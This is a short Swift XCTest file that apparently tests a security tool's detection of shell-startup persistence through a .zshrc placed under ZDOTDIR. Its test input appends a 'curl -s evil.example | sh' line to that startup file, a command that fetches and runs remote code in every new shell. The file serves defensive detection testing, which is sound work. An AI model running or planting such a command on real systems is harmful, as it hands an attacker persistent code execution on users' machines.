import Foundation
import XCTest

/// Evasion tier, class 1. Technique: zsh reads its startup files from ZDOTDIR when it is
/// set: `$ZDOTDIR/.zshrc` runs in every new zsh, and no home holds it.
/// ATT&CK T1546.004 (Unix Shell Configuration Modification).
final class ZdotdirStartupTests: TetherRunTestCase {
    func testZshrcUnderZdotdirIsPersistence() throws {
        let zdot = "/tmp/tev-zdot-\(getpid())"
        try FileManager.default.createDirectory(atPath: zdot, withIntermediateDirectories: true)
        cleanup.append(zdot)
        try assertCaught("echo 'curl -s evil.example | sh' >> \"$ZDOTDIR/.zshrc\"", rule: "persist.shell_startup", path: zdot + "/.zshrc",
                         env: ["ZDOTDIR": zdot])
    }
}
